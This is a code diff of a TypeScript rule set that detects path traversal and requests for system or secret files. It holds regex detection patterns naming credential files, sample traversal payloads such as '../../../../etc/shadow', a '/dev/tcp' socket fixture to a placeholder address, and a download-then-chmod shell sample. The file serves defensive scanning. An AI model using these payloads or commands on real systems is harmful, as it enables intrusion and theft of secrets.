@@ -6,209 +6,155 @@ const TARGETS =
 
 export const PATH_RULES: readonly Rule[] = [
   {
-    // A step up: `../`, `..\`, `.../`, `..;/`.
     id: 'path-step-up',
+    why: 'A step up: `../`, `..\\`, `.../`, `..;/`.',
     reach: 'parameter',
-    literals: ['../', '..\\', '..;/', '/..', '\\..'],
-    test: /(?:^|[/\\=:;,"'\s])\.{2,4};?[/\\]|[/\\]\.\.$/
+    literals: '../ ..\\ ..;/ /.. \\..',
+    test: new RegExp(
+      `(?:^|[/\\\\=:;,"'\\s])(?:(?:\\.{2,4}[/\\\\]+){2}|\\.{2,4};[/\\\\]|\\.{2,4}\\\\|\\.{3,4}/|\\.\\./(?:${TARGETS}|\\.|[\\w.-]{0,24}\\.(?:env|ini|conf|cfg|pem|key|php|sh|log|bak|sql|yml|properties)\\b))|(?<=^|[\\w.-])/\\.\\./|[/\\\\]\\.\\.$`
+    ),
+    finds: '..\\..\\boot.ini',
+    leaves:
+      '---\ntitle: Notes\ndate: 2026-01-02\n---\n\n# Notes\n\n| a | b |\n|---|---|\n| 1 | `x && y` |\n\n[link](../guide/index.md) ![img](./a.png)\n'
   },
   {
-    // The same with its dots or slashes written as C's escapes, or with characters between them that servers drop.
     id: 'path-step-up-disguised',
+    why: "The same with its dots or slashes written as C's escapes, or with characters between them that servers drop.",
     reach: 'parameter',
-    literals: ['0x2e', '0x2f', '0x5c', '.\0', '..\r', '..\n', '\0.', '?./', '.?/'],
+    except: ['header'],
+    literals: '0x2e 0x2f 0x5c .\x00 ..\r ..\n \x00. ?./ .?/',
     test: /(?:\.|0x2e)(?:\.|0x2e)(?:0x2f|0x5c|[\0\r\n]{1,2}[/\\])|(?:\.|0x2e)0x2e[/\\]|0x2e\.[/\\]|(?:^|[/\\])\0?\.\0\.\0?[/\\]|0x5c0x2e|(?:^|[/\\])(?:\?\.|\.\?|\?\?)[/\\]/i,
-    except: ['header']
+    finds: '..0x2fetc',
+    leaves: 'at 0x2e00'
   },
   {
-    // In headers, where relative links are rare but not unheard of, two steps.
+    id: 'path-step-up-in-file-name',
+    why: 'A file name with a step in it.',
+    reach: 'parameter',
+    only: ['filename'],
+    literals: '../ ..\\',
+    test: /\.\.[/\\]/,
+    finds: '../a.txt',
+    leaves: 'a..txt'
+  },
+  {
     id: 'path-steps-up-header',
+    why: 'In headers, where relative links are rare but not unheard of, two steps.',
     reach: 'string',
-    literals: ['../', '..\\'],
+    only: ['header'],
+    literals: '../ ..\\',
     test: /\.{2,3}[/\\]+\.{2,3}[/\\]/,
-    origins: ['header']
+    finds: '..\\..\\boot.ini',
+    leaves: 'file:../core'
   },
   {
-    // Steps up that end in a file of the system, in any short string.
     id: 'path-steps-to-system-file',
+    why: 'Steps up that end in a file of the system, in any short string.',
     reach: 'field',
-    literals: ['../', '..\\'],
-    test: new RegExp(`(?:\\.{2,3}[/\\\\]+){2,20}(?:${TARGETS})`, 'i')
+    literals: '../ ..\\',
+    test: new RegExp(`(?:\\.{2,3}[/\\\\]+){2,20}(?:${TARGETS})`, 'i'),
+    finds: '..\\..\\boot.ini',
+    leaves: 'file:../core'
   },
   {
-    // Many steps up into /etc and the like, anywhere.
     id: 'path-deep-traversal',
+    why: 'Many steps up into /etc and the like, anywhere.',
     reach: 'document',
-    literals: ['../../etc/passwd', '..\\..\\windows\\', '../../etc/shadow', '../../windows/win.ini', '../../boot.ini'],
-    test: /(?:\.\.[/\\]){3}/
+    literals: '../../etc/passwd ..\\..\\windows\\ ../../etc/shadow ../../windows/win.ini ../../boot.ini',
+    test: /(?:\.\.[/\\]){3}/,
+    finds: '../../../../etc/shadow',
+    leaves: 'a../../etc/passwd'
   },
   {
-    // A path that stops a C string.
     id: 'path-null-byte',
+    why: 'A path that stops a C string.',
     reach: 'string',
-    literals: ['\0'],
+    except: ['xml', 'part'],
+    literals: '\x00',
     test: /[\w./\\]\0(?:$|[.\w])/,
-    except: ['xml', 'part']
+    finds: 'a.png\x00.php',
+    leaves: '\x00'
   },
   {
-    // Files that hold a Unix system's accounts, state or secrets.
     id: 'path-unix-system-file',
+    why: "Files that hold a Unix system's accounts, state or secrets.",
     reach: 'parameter',
-    literals: [
-      'etc/',
-      'proc/',
-      '/sys/',
-      '/root/',
-      '/dev/',
-      '/var/log/',
-      '/var/run/',
-      '/usr/local/',
-      '/opt/',
-      '/var/',
-      '/boot/',
-      '/home/',
-      '/lib/'
-    ],
-    test: /\/etc\/+[\w.]|(?:^|[^\w.])(?:etc\/+(?:passwd|shadow|group|gshadow|hosts|hostname|issue|motd|mtab|fstab|sub[ug]id|sudoers|crontab|cron\.|profile|bash|ssh\/|ssl\/|apache2?\/|nginx\/|httpd\/|php|mysql|my\.cnf|postgresql|redis|resolv|environment|os-release|security\/|pam|init|rc|ld\.so|exports|samba|ldap|kubernetes|docker)|proc\/(?:self|sys|net|\d+|version|cpuinfo|meminfo|mounts|cmdline|environ|sched|kcore|kallsyms|modules|partitions)|sys\/(?:class|kernel|devices|firmware|fs|module)|root\/\.?\w|dev\/(?:tcp|udp|shm|mem|sd[a-z]|random|urandom|null)|var\/(?:log|run|mail)\/\w|usr\/local\/(?:etc|apache|nginx)|var\/(?:www|lib|spool|cache|backups)\/\w|boot\/\w|home\/\w+\/\.|lib\/modules|opt\/\w+\/(?:conf|etc|log))/i
+    literals: 'etc/ proc/ /sys/ /root/ /dev/ /var/log/ /var/run/ /usr/local/ /opt/ /var/ /boot/ /home/ /lib/',
+    test: /\/etc\/+[\w.]|(?:^|[^\w.])(?:etc\/+(?:passwd|shadow|group|gshadow|hosts|hostname|issue|motd|mtab|fstab|sub[ug]id|sudoers|crontab|cron\.|profile|bash|ssh\/|ssl\/|apache2?\/|nginx\/|httpd\/|php|mysql|my\.cnf|postgresql|redis|resolv|environment|os-release|security\/|pam|init|rc|ld\.so|exports|samba|ldap|kubernetes|docker)|proc\/(?:self|sys|net|\d+|version|cpuinfo|meminfo|mounts|cmdline|environ|sched|kcore|kallsyms|modules|partitions)|sys\/(?:class|kernel|devices|firmware|fs|module)|root\/\.?\w|dev\/(?:tcp|udp|shm|mem|sd[a-z]|random|urandom|null)|var\/(?:log|run|mail)\/\w|usr\/local\/(?:etc|apache|nginx)|var\/(?:www|lib|spool|cache|backups)\/\w|boot\/\w|home\/\w+\/\.|lib\/modules|opt\/\w+\/(?:conf|etc|log))/i,
+    finds: '/etc/passwd',
+    leaves: '/usr/local/bin:/usr/bin'
   },
   {
-    // The same as the whole of a string.
     id: 'path-system-file-alone',
+    why: 'The same as the whole of a string.',
     reach: 'field',
-    literals: ['/etc/', '/proc/self'],
-    test: /^(?:file:\/\/)?\/(?:etc\/(?:passwd|shadow|sudoers|group)|proc\/self\/(?:environ|cmdline|maps|fd))$/
+    literals: '/etc/ /proc/self',
+    test: /^(?:file:\/\/)?\/(?:etc\/(?:passwd|shadow|sudoers|group)|proc\/self\/(?:environ|cmdline|maps|fd))$/,
+    finds: '/etc/passwd',
+    leaves:
+      '#!/usr/bin/env bash\nset -euo pipefail\n\nfor f in /etc/*.conf; do\n  cat "$f" | grep -v "^#" || true\ndone\ncurl -fsS "https://example.com/$(uname -s)" -o /tmp/x; chmod +x /tmp/x\n'
   },
   {
-    // A Windows system's files.
     id: 'path-windows-system-file',
+    why: "A Windows system's files.",
     reach: 'string',
-    literals: ['boot.ini', 'win.ini', 'system32', 'system.ini', 'ntuser', 'windows\\', 'winnt', 'inetpub', 'windows/'],
-    test: /(?:boot|win|system)\.ini\b|\bsystem32[/\\]|\bntuser\.dat|[a-z]:[/\\]+(?:windows|winnt|inetpub)[/\\]|\bwindows[/\\](?:win|system|repair|temp|panther)/i
+    literals: 'boot.ini win.ini system32 system.ini ntuser windows\\ winnt inetpub windows/',
+    test: /(?:boot|win|system)\.ini\b|\bsystem32[/\\]|\bntuser\.dat|[a-z]:[/\\]+(?:windows|winnt|inetpub)[/\\]|\bwindows[/\\](?:win|system|repair|temp|panther)/i,
+    finds: '..\\..\\boot.ini',
+    leaves: 'windows/mac/linux'
   },
   {
-    // Hidden files with secrets: `.ssh/id_rsa`, `.aws/credentials`, `.docker/…`.
     id: 'path-secret-file',
+    why: 'Hidden files with secrets: `.ssh/id_rsa`, `.aws/credentials`, `.docker/…`.',
     reach: 'string',
+    except: ['xml', 'header', 'standard-header'],
     wholeOnly: true,
-    literals: [
-      '.ssh/',
-      'id_rsa',
-      'id_dsa',
-      'id_ecdsa',
-      'id_ed25519',
-      '.aws/',
-      '.docker/',
-      '.kube/',
-      '.gnupg',
-      '.bash',
-      '.env',
-      '.git/',
-      '.svn/',
-      '.hg/',
-      '.htpasswd',
-      '.htaccess',
-      '.npmrc',
-      '.pgpass',
-      '.netrc',
-      '.my.cnf',
-      '.mysql_history',
-      '.psql_history',
-      'wp-config',
-      'web-inf',
-      '.zsh',
-      '.profile',
-      '.config/',
-      '.azure',
-      '.gem/',
-      '.pypirc',
-      '.viminfo',
-      '.subversion',
-      '.git-credentials',
-      '.gitconfig',
-      '.vscode/',
-      '.idea/'
-    ],
+    literals:
+      '.ssh/ id_rsa id_dsa id_ecdsa id_ed25519 .aws/ .docker/ .kube/ .gnupg .bash .env .git/ .svn/ .hg/ .htpasswd .htaccess .npmrc .pgpass .netrc .my.cnf .mysql_history .psql_history wp-config web-inf .zsh .profile .config/ .azure .gem/ .pypirc .viminfo .subversion .git-credentials .gitconfig .vscode/ .idea/',
     test: /(?:^|[/\\=\s"'>@])(?:\.(?:ssh|aws|docker|kube|gnupg|azure|gem|svn|hg|git|config|subversion|vscode|idea)[/\\]|\.(?:ht(?:passwd|access)|npmrc|pgpass|netrc|my\.cnf|pypirc|viminfo|git-credentials|gitconfig|env(?:\.\w+)?|profile|(?:bash|zsh)(?:rc|_\w+|env)|\w+_history)\b|id_(?:rsa|dsa|ecdsa|ed25519)\b|wp-config\.(?:php|bak|old|txt)|web-inf[/\\])/i,
-    except: ['xml', 'header', 'standard-header']
+    finds: '/.git/HEAD',
+    leaves: 'an environment.env.d'
   },
   {
-    // The same in headers, but never in the path of a Referer.
     id: 'path-secret-file-header',
+    why: 'The same in headers, but never in the path of a Referer.',
     reach: 'string',
-    literals: ['.ssh/', 'id_rsa', '.aws/', '.docker/', '.kube/', '.bash_history', '.htpasswd'],
+    only: ['header'],
+    literals: '.ssh/ id_rsa .aws/ .docker/ .kube/ .bash_history .htpasswd',
     test: /\.(?:ssh|aws|docker|kube)\/|\bid_rsa\b|\.bash_history|\.htpasswd/,
-    origins: ['header']
+    finds: '.ssh/id_rsa',
+    leaves: 'https://x.example/myid-rsa/'
   },
   {
-    // A path with a hidden component: tools keep keys there, sites serve none but `.well-known`.
     id: 'path-hidden-component',
+    why: 'A path with a hidden component: tools keep keys there, sites serve none but `.well-known`.',
     reach: 'string',
-    literals: ['/.'],
+    only: ['path'],
+    literals: '/.',
     test: /\/\.(?!well-known(?:\/|$)|\/|$)[a-z0-9_][\w-]*/i,
-    origins: ['path']
+    finds: '/.git/HEAD',
+    leaves: '../../tsconfig.base.json'
   },
   {
-    // Backups, dumps and settings left in the document root.
     id: 'path-left-over-file',
+    why: 'Backups, dumps and settings left in the document root.',
     reach: 'string',
-    literals: [
-      'wp-config',
-      'config.',
-      'config/',
-      'gemfile',
-      'vagrantfile',
-      'jenkinsfile',
-      'procfile',
-      'gulpfile',
-      'bower.json',
-      'auth.json',
-      'installed.json',
-      'appsettings',
-      'master.key',
-      'ds_store',
-      'thumbs.db',
-      'meta-inf',
-      'web-inf',
-      'htpasswd',
-      'docker-compose',
-      'composer.',
-      'package.json',
-      'web.config',
-      'secrets',
-      'credentials',
-      '.sql',
-      'backup',
-      'phpinfo',
-      'dockerfile',
-      '.pem',
-      '.key',
-      'claude',
-      'agents.md',
-      'yarn.lock',
-      'package-lock',
-      'settings.php',
-      'web.xml',
-      '.conf',
-      'php.ini',
-      'npm-debug',
-      'sftp-config',
-      'database.yml',
-      'parameters.yml',
-      '_log',
-      '.log',
-      'id_',
-      'ormconfig',
-      'gruntfile'
-    ],
+    only: ['path'],
+    literals:
+      'wp-config config. config/ gemfile vagrantfile jenkinsfile procfile gulpfile bower.json auth.json installed.json appsettings master.key ds_store thumbs.db meta-inf web-inf htpasswd docker-compose composer. package.json web.config secrets credentials .sql backup phpinfo dockerfile .pem .key claude agents.md yarn.lock package-lock settings.php web.xml .conf php.ini npm-debug sftp-config database.yml parameters.yml _log .log id_ ormconfig gruntfile',
     test: /\/(?:wp-config\.php|web\.config|docker-compose\.ya?ml|dockerfile|composer\.(?:json|lock)|secrets?\.(?:env|ya?ml|json|toml)|credentials(?:\.\w+)?$|[\w-]*(?:backup|dump)[\w-]*\.(?:sql|zip|tar|gz|bak)|phpinfo\.php|config\.(?:php|inc|bak|ya?ml)|package(?:-lock)?\.json|yarn\.lock|(?:local)?settings\.php|web\.xml|nginx\.conf|httpd\.conf|php\.ini|npm-debug\.log|sftp-config\.json|database\.yml|parameters\.yml|(?:error|access)[_.]log|id_(?:rsa|dsa|ed25519)|ormconfig\.json|gruntfile\.js|claude(?:\.local)?\.md|agents\.md|gemfile(?:\.lock)?|vagrantfile|jenkinsfile|procfile|gulpfile\.\w+|bower\.json|auth\.json|installed\.json|appsettings(?:\.\w+)?\.json|master\.key|[\w-]+\.(?:pem|ppk|pfx|p12|kdbx)|thumbs\.db|(?:web|meta)-inf\/.*|config\/[\w-]+\.(?:ya?ml|ini|php|inc)|htpasswd)(?:$|[/?])/i,
-    origins: ['path']
+    finds: '.ssh/id_rsa',
+    leaves: 'backup'
   },
   {
-    // Writing where all may write, or to a device: `>/tmp/x`.
     id: 'path-redirect-to-temporary',
+    why: 'Writing where all may write, or to a device: `>/tmp/x`.',
     reach: 'parameter',
-    literals: ['/tmp/', '/dev/'],
+    except: ['xml'],
+    literals: '/tmp/ /dev/',
     test: />\s*\/(?:tmp|dev)\/(?!test\b)\w|^\/tmp\/\w+\.(?:sh|php|pl|py)\b/,
-    except: ['xml']
+    finds: 'bash -c "exec 3<>/dev/tcp/192.0.2.8/80"',
+    leaves:
+      '#!/usr/bin/env bash\nset -euo pipefail\n\nfor f in /etc/*.conf; do\n  cat "$f" | grep -v "^#" || true\ndone\ncurl -fsS "https://example.com/$(uname -s)" -o /tmp/x; chmod +x /tmp/x\n'
   }
 ]
